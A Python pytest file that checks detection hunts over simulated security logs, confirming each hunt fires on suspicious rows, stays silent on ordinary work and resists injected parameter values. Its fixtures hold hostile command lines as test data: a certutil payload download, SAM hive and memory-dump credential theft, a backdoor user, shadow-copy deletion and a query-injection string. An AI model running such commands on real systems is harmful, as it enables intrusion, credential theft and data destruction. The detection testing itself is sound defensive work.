"""Every hunt on a real KQL engine: finds what it is for, and stays silent about ordinary work."""

from collections.abc import Iterator

import pytest

from lab.simulators.kql.store import KqlStore
from shared.playbook.hunts import evaluate_hunt
from tests.unit.playbook.hunt_rows import (
    HUNTS,
    Rows,
    audit,
    files,
    logon,
    mails,
    office,
    placed,
    process,
    purge,
    run,
    sign_in,
    token_use,
    transfer,
)

DAY = 24 * 60
FOUND: dict[str, dict[str, Rows]] = {
    "anomalous_places": {"SigninLogs": [sign_in(1), sign_in(2), sign_in(9, country="NG")]},
    "failures_then_success": {
        "SigninLogs": [*(sign_in(i, "50126", "NG") for i in range(6)), sign_in(8, country="NG")]
    },
    "inbox_rules": {
        "OfficeActivity": [
            office("New-InboxRule", Parameters='[{"Name":"MoveToFolder","Value":"RSS Feeds"}]'),
            office("Set-Mailbox", Parameters='[{"Name":"ForwardingSmtpAddress","Value":"x@y"}]'),
        ]
    },
    "large_transfers": {"CommonSecurityLog": [transfer(300_000_000), transfer(300_000_000)]},
    "lateral_movement": {"DeviceLogonEvents": [logon("a"), logon("b", "Network"), logon("c")]},
    "mail_bursts": {"OfficeActivity": mails(60)},
    "mass_deletion": {"OfficeActivity": [*files("FileRecycled", 201), purge("HardDelete", 201)]},
    "mass_download": {"OfficeActivity": files("FileDownloaded", 120)},
    "mfa_method_changes": {"AuditLogs": [audit("User registered security info")]},
    "oauth_consent": {"AuditLogs": [audit("Consent to application", target="")]},
    "role_assignments": {"AuditLogs": [audit("Add member to role")]},
    "sensitive_access": {
        "OfficeActivity": [
            office("FileAccessed", OfficeObjectId="https://x/plan.docx"),
            office(
                "FileAccessed", ClientIP="198.51.100.20", OfficeObjectId="https://x/payroll.xlsx"
            ),
        ]
    },
    "sharing_bursts": {"OfficeActivity": files("AnonymousLinkCreated", 20)},
    "suspicious_commands": {
        "DeviceProcessEvents": [
            process("powershell.exe -nop -enc " + "QQBB" * 20),
            process("certutil.exe -urlcache -split -f http://203.0.113.7/a.exe"),
            process(r"reg.exe save HKLM\SAM c:\temp\s"),
            process("rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 624 l.dmp full"),
            process("net user helper P4ss /add"),
            process("vssadmin.exe Delete Shadows /all /quiet"),
        ]
    },
    "token_new_places": {
        "SigninLogs": [placed(-DAY)],
        "AADNonInteractiveUserSignInLogs": [token_use(0)],
    },
}
SILENT: dict[str, Rows] = {
    "SigninLogs": [
        sign_in(1),
        sign_in(2, "50126"),
        sign_in(3),
        sign_in(9, country="NG", UserId="other", UserPrincipalName="other@contoso.example"),
    ],
    "OfficeActivity": [
        office("Set-Mailbox", Parameters='[{"Name":"Language","Value":"de"}]', ClientIP="10.1.1.1"),
        office("FileAccessed", ClientIP="198.51.100.20:52", OfficeObjectId="https://x/menu.docx"),
        office("New-InboxRule", UserId="other@contoso.example"),
        *(office("FileDownloaded", ClientIP="10.1.1.1", OfficeObjectId=f"{i}") for i in range(20)),
    ],
    "AuditLogs": [
        audit("Update user"),
        audit("User registered security info", target="o@contoso.example")
        | {"InitiatedBy": {"user": {"userPrincipalName": "other@contoso.example"}}},
    ],
    "DeviceLogonEvents": [logon("a"), logon("a", "Network"), logon("b")],
    "DeviceProcessEvents": [
        process(r'"C:\Program Files\Microsoft Office\EXCEL.EXE" /e budget.xlsx'),
        process("net use Z: \\\\files\\share"),
        process("powershell.exe -ExecutionPolicy Bypass -File c:\\it\\inventory.ps1"),
        process("git commit -m encoding"),
    ],
    "CommonSecurityLog": [transfer(400_000_000), transfer(900_000_000, user="other")],
}


@pytest.fixture(scope="module")
def store() -> Iterator[KqlStore]:
    yield KqlStore()


@pytest.mark.parametrize("hunt_id", sorted(HUNTS))
def test_hunt_finds_what_it_is_for(store: KqlStore, hunt_id: str) -> None:
    store.load(FOUND[hunt_id])
    rows = run(store, HUNTS[hunt_id])
    found = evaluate_hunt(HUNTS[hunt_id], rows)
    assert found is not None
    assert all(row["TimeGenerated"] for row in found.rows), "signals compare times"
    expected = next(iter(FOUND[hunt_id].values()))
    if hunt_id in ("inbox_rules", "sensitive_access", "suspicious_commands", "lateral_movement"):
        assert found.count == len(expected)


def test_a_consent_names_the_application_by_id_and_its_scopes(store: KqlStore) -> None:
    """As Entra logs it: learn.microsoft.com, "Audit log activities", Consent to application."""
    given = (
        "[] => [[Id: bW9yZQ, ClientId: 2d1f7c0a, PrincipalId: 6a1c5f0e, ResourceId: 9c8b7a65, "
        "ConsentType: Principal, Scope:  Mail.Read offline_access, CreatedDateTime: , "
        "LastModifiedDateTime ]]; "
    )
    changes = [{"displayName": "ConsentAction.Permissions", "newValue": given}]
    target = {"id": "2d1f7c0a", "displayName": "Mail Backup Pro", "modifiedProperties": changes}
    store.load({"AuditLogs": [audit("Consent to application") | {"TargetResources": [target]}]})
    [row] = run(store, HUNTS["oauth_consent"])
    assert (row["Application"], row["ApplicationId"]) == ("Mail Backup Pro", "2d1f7c0a")
    assert row["Scopes"] == "Mail.Read offline_access"


def test_hunts_are_silent_about_ordinary_work(store: KqlStore) -> None:
    store.load(SILENT)
    found = {hunt_id: run(store, hunt) for hunt_id, hunt in HUNTS.items()}
    assert {hunt_id: rows for hunt_id, rows in found.items() if rows} == {}


@pytest.mark.parametrize("hunt_id", sorted(HUNTS))
def test_hostile_values_stay_values(store: KqlStore, hunt_id: str) -> None:
    store.load(FOUND[hunt_id])
    hostile = '" or 1==1 //\\'
    rows = run(
        store,
        HUNTS[hunt_id],
        userId=hostile,
        userPrincipalName=hostile,
        accountName=hostile,
        onPremisesName=hostile,
        addresses=[hostile],
    )
    assert rows == []
